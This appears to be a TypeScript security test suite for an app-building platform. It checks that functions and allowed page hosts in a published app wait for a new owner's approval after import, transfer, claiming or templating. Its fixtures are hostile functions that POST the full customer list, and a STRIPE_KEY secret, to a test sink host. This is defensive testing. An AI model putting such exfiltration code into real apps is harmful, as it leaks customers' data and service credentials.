import { buffer } from 'node:stream/consumers';
import { appArchives, appSettingsApi, appStore, securityApi } from '@buildai/apps/shared';
import type { App } from '@buildai/apps/shared';
import { authApi } from '@buildai/auth/shared';
import { claimsApi, isClaimableKey } from '@buildai/claims/shared';
import type { Builder } from '@buildai/runtime/test/support/app-host.js';
import { pageHostsApi, runtimeApi } from '@buildai/runtime/shared';
import { secretsApi } from '@buildai/secrets/shared';
import { templatesApi } from '@buildai/templates/shared';
import { expect } from 'chai';
import { functionThat } from './hostile-functions.js';
import type { HostileWorld } from './hostile-world.js';
import { secretMark, startHostileWorld } from './hostile-world.js';

const pageHost = 'maps.example.com';

describe('A published app with functions, secrets and hosts', () => {
  let world: HostileWorld;
  let admin: Builder;
  let files: Readonly<Record<string, string>>;
  before(async () => {
    world = await startHostileWorld('sqlite');
    admin = await world
      .client(authApi)
      .signIn({ body: { email: 'admin@example.com', password: 'orchid-velvet-42' } });
    const sends = (what: string) =>
      functionThat(`return fetch('${world.sink.at('/sent')}', { method: 'POST', ${what} });`, { sink: '' });
    files = {
      all: sends('body: JSON.stringify(await context.service.entities.Customer.list())'),
      secret: sends('headers: { authorization: context.secrets.STRIPE_KEY }'),
      plain: sends(`body: 'nothing'`),
    };
  });
  after(() => world?.stop());
  beforeEach(() => world.sink.forget());

  const pages = (builder: Builder) => world.client(pageHostsApi, builder.token);
  /** A published shop in which all works, since the owner allowed it. */
  const published = async (owner: Builder): Promise<App> => {
    const appId = await world.newShop(undefined, owner);
    for (const [name, content] of Object.entries(files))
      await world.change(appId, { type: 'write', path: `functions/${name}.js`, content });
    await world.allow(appId, ['127.0.0.1'], owner);
    await pages(owner).decidePageHosts({
      params: { appId },
      body: { hosts: [pageHost, '*.tiles.example.com'], state: 'allowed' },
    });
    await world.publish(appId);
    for (const name of Object.keys(files)) expect(await visit(appId, name)).to.equal('did 200');
    expect(await policies(appId, owner)).to.deep.equal([true, true]);
    world.sink.forget();
    return stored(appId);
  };
  const stored = async (appId: string): Promise<App> => {
    const app = await world.service(appStore).get(appId);
    if (!app) throw new Error('The app is gone.');
    return app;
  };
  const originOf = async (appId: string) =>
    new URL(await world.service(appStore).publishedUrl(await stored(appId))).origin;
  const textOf = async (answer: Promise<Response>) => (await answer).text();
  const post = (address: string, token?: string) =>
    textOf(
      world.get(address, {
        method: 'POST',
        body: '{}',
        headers: token === undefined ? {} : { authorization: `Bearer ${token}` },
      }),
    );
  /** A call of the published app by anybody. */
  const visit = async (appId: string, name: string) =>
    post(`${await originOf(appId)}/api/apps/${appId}/functions/${name}`);
  /** Whether pages of the preview, and the published ones, may connect to the host. */
  const policies = async (appId: string, { token }: Builder) => {
    const isPublished = (await stored(appId)).publishedVersionId !== undefined;
    const { url } = await world.client(runtimeApi, token).getPreview({ params: { appId }, query: {} });
    const origins = [new URL(url).origin, ...(isPublished ? [await originOf(appId)] : [])];
    return Promise.all(
      origins.map(async (origin) =>
        (await world.get(origin)).headers.get('content-security-policy')?.includes(`https://${pageHost}`),
      ),
    );
  };
  const rulesOf = async (appId: string, { token }: Builder) => {
    const { findings } = await world.client(securityApi, token).listSecurityFindings({ params: { appId } });
    return findings.map(({ rule }) => rule);
  };

  /** Nothing works that the former owner allowed, until the new one does. */
  const waits = async (appId: string, owner: Builder) => {
    world.sink.forget();
    const isPublished = (await stored(appId)).publishedVersionId !== undefined;
    await world.client(secretsApi, owner.token).saveSecrets({
      params: { appId },
      body: { secrets: [{ key: 'STRIPE_KEY', value: secretMark, hosts: ['127.0.0.1'] }] },
    });
    const params = { appId };
    for (const name of ['all', 'secret']) {
      const inPreview = await post(`${world.url}/api/apps/${appId}/functions/${name}`, owner.token);
      expect(inPreview).to.include('functions/not-confirmed');
      if (isPublished) expect(await visit(appId, name)).to.include('function_unavailable');
    }
    if (isPublished) expect(await visit(appId, 'plain')).to.equal('failed functions/host-not-allowed');
    const { hosts } = await world.rights(owner).listFunctionHosts({ params });
    expect(hosts.map(({ host, state }) => [host, state])).to.deep.equal([['127.0.0.1', 'asked']]);
    expect(await policies(appId, owner)).to.deep.equal(isPublished ? [false, false] : [false]);
    const listed = await pages(owner).listPageHosts({ params });
    expect(listed.hosts.map(({ host, state }) => [host, state])).to.deep.equal([
      ['*.tiles.example.com', 'asked'],
      [pageHost, 'asked'],
    ]);
    expect(world.sink.received).to.deep.equal([]);
    const rules = await rulesOf(appId, owner);
    expect(rules).to.include('runtime/waiting-hosts');
    if (isPublished) expect(rules).to.include('functions/waits-for-owner');
  };
  const worksOnceAllowed = async (appId: string, owner: Builder) => {
    const waiting = (await pages(owner).listPageHosts({ params: { appId } })).hosts.map(({ host }) => host);
    await pages(owner).decidePageHosts({
      params: { appId },
      body: { hosts: waiting, state: 'allowed' },
    });
    for (const name of ['all', 'secret']) await world.confirm(appId, name, owner);
    if ((await stored(appId)).publishedVersionId === undefined) await world.publish(appId);
    for (const name of Object.keys(files)) expect(await visit(appId, name)).to.equal('did 200');
    expect(await policies(appId, owner)).to.deep.equal([true, true]);
    expect(await rulesOf(appId, owner)).to.not.include.oneOf([
      'runtime/waiting-hosts',
      'functions/waits-for-owner',
    ]);
  };

  it('waits for whoever imports its archive, also as a copy of the same owner', async () => {
    const { ada, grace } = world;
    const archives = world.service(appArchives);
    const app = await published(ada);
    let bytes = await buffer(archives.export(app));
    for (const owner of [grace, ada]) {
      const stream = (async function* () {
        yield await Promise.resolve(bytes);
      })();
      const copy = await archives.import(stream, { ownerId: owner.accountId });
      expect(copy.publishedVersionId).to.be.a('string');
      await waits(copy.appId, owner);
      // The list is stored in an archive of the copy, too.
      bytes = await buffer(archives.export(await stored(copy.appId)));
      if (owner === grace) await worksOnceAllowed(copy.appId, owner);
    }
    expect(await visit(app.appId, 'all'), 'the original').to.equal('did 200');
  });

  it('waits for its new owner, and works again once it is back', async () => {
    const { ada, grace } = world;
    const { appId } = await published(ada);
    const store = world.service(appStore);
    await store.transfer(appId, grace.accountId);
    await waits(appId, grace);
    await store.transfer(appId, ada.accountId);
    for (const name of Object.keys(files)) expect(await visit(appId, name)).to.equal('did 200');
    expect(await policies(appId, ada)).to.deep.equal([true, true]);
    await store.transfer(appId, grace.accountId);
    await worksOnceAllowed(appId, grace);
  });

  it('waits for the customer who claims it', async () => {
    const { appId } = await published(admin);
    await world
      .client(appSettingsApi, admin.token)
      .changeAppSettings({ params: { appId }, body: { appSettings: { [isClaimableKey]: true } } });
    const { claimCode } = await world
      .client(claimsApi, admin.token)
      .getClaimInvitation({ params: { appId } });
    await world.client(claimsApi, world.grace.token).acceptClaim({ body: { code: claimCode } });
    await waits(appId, world.grace);
    // The builder who stays is a collaborator now, and asked like any other.
    const asBuilder = await post(`${world.url}/api/apps/${appId}/functions/all`, admin.token);
    expect(asBuilder).to.include('functions/not-confirmed');
  });

  it('waits for whoever starts from its template', async () => {
    const { appId } = await published(admin);
    const templates = (builder: Builder) => world.client(templatesApi, builder.token);
    await templates(admin).makeTemplate({ params: { appId }, body: { withRows: true } });
    await world
      .client(appSettingsApi, admin.token)
      .changeAppSettings({ params: { appId }, body: { appSettings: { isAppTemplate: true } } });
    for (const builder of [world.grace, admin]) {
      const made = await templates(builder).startFromTemplate({ params: { templateId: appId }, body: {} });
      await waits(made.appId, builder);
      if (builder === world.grace) await worksOnceAllowed(made.appId, builder);
    }
  });

  it('does not keep what ran before for what its new owner publishes', async () => {
    const { ada, grace } = world;
    const { appId } = await published(ada);
    await world.service(appStore).transfer(appId, grace.accountId);
    // What is published before it and ran stands in for code that does not.
    await world.change(appId, { type: 'write', path: 'functions/all.js', content: 'export default (' });
    await world.publish(appId);
    await world.allow(appId, ['127.0.0.1'], grace);
    expect(await visit(appId, 'all')).to.include('function_unavailable');
    expect(world.sink.received).to.deep.equal([]);
  });
});
